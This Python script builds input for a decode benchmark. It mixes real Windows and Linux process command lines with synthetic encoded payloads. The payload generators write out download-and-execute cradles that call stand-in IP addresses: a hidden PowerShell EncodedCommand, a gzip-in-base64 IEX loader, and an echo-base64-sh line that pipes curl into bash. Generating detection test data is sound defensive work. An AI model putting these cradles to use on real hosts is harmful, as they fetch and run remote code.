"""Build the decode benchmark's input: a table of real command lines with encoded payloads.

Usage: make_inputs.py DATA_DIR OUT_CSV MEGABYTES

Rows come from the Windows 4688 events (processes_on_host.csv) and the Linux auditd
execve events (linux_proc_test.csv), repeated until the table reaches MEGABYTES. One row
in twenty gets an encoded payload of one of the kinds attackers use: a PowerShell
-EncodedCommand (UTF-16LE base64), a gzip-in-base64 download cradle, an
`echo … | base64 -d | sh` line, or one of MSTICPy's two base64 test files.
"""

import base64
import csv
import gzip
import random
import sys
from pathlib import Path


def payloads(data: Path, rng: random.Random):
    hosts = ["198.51.100.7", "203.0.113.9", "192.0.2.44", "198.51.100.23"]
    b64msg = (data / "base64msg.txt").read_text()
    inzip = (data / "b64text_inzip.txt").read_text()

    def ps_encoded():
        script = (
            f"$c=New-Object Net.WebClient;$c.Headers.Add('User-Agent','Mozilla/5.0');"
            f"IEX $c.DownloadString('http://{rng.choice(hosts)}/{rng.randrange(10**6)}.ps1')"
        )
        enc = base64.b64encode(script.encode("utf-16-le")).decode()
        return f"powershell.exe -NoP -NonI -W Hidden -EncodedCommand {enc}"

    def gzip_cradle():
        script = (
            f"$s=New-Object IO.MemoryStream;iex (New-Object Net.WebClient).DownloadString("
            f"'http://{rng.choice(hosts)}/stage{rng.randrange(100)}');Start-Sleep {rng.randrange(60)}"
        )
        blob = base64.b64encode(gzip.compress(script.encode(), mtime=0)).decode()
        return (
            "powershell -nop -c \"IEX(New-Object IO.StreamReader((New-Object IO.Compression.GzipStream("
            f"[IO.MemoryStream][Convert]::FromBase64String('{blob}'),[IO.Compression.CompressionMode]"
            "::Decompress)))).ReadToEnd()\""
        )

    def echo_sh():
        cmd = f"curl -fsSL http://{rng.choice(hosts)}/x{rng.randrange(1000)}.sh | bash -s -- --quiet"
        return f"/bin/sh -c echo {base64.b64encode(cmd.encode()).decode()} | base64 -d | sh"

    kinds = [ps_encoded, gzip_cradle, echo_sh, ps_encoded, gzip_cradle, echo_sh]
    while True:
        roll = rng.random()
        if roll < 0.02:
            yield b64msg
        elif roll < 0.04:
            yield inzip
        else:
            yield rng.choice(kinds)()


def main() -> None:
    data, out, megabytes = Path(sys.argv[1]), Path(sys.argv[2]), float(sys.argv[3])
    rng = random.Random(20190115)
    base = []
    with open(data / "processes_on_host.csv", newline="") as f:
        base += [r["CommandLine"] for r in csv.DictReader(f) if r.get("CommandLine")]
    with open(data / "linux_proc_test.csv", newline="") as f:
        base += [r["cmdline"] for r in csv.DictReader(f) if r.get("cmdline")]
    encoded = payloads(data, rng)
    target = int(megabytes * 1_000_000)
    size = 0
    rows = 0
    with open(out, "w", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["CommandLine"])
        while size < target:
            line = next(encoded) if rng.random() < 0.05 else rng.choice(base)
            writer.writerow([line])
            size += len(line) + 3
            rows += 1
    print(f"{out}: {rows} rows, {out.stat().st_size / 1e6:.1f} MB", file=sys.stderr)


if __name__ == "__main__":
    main()
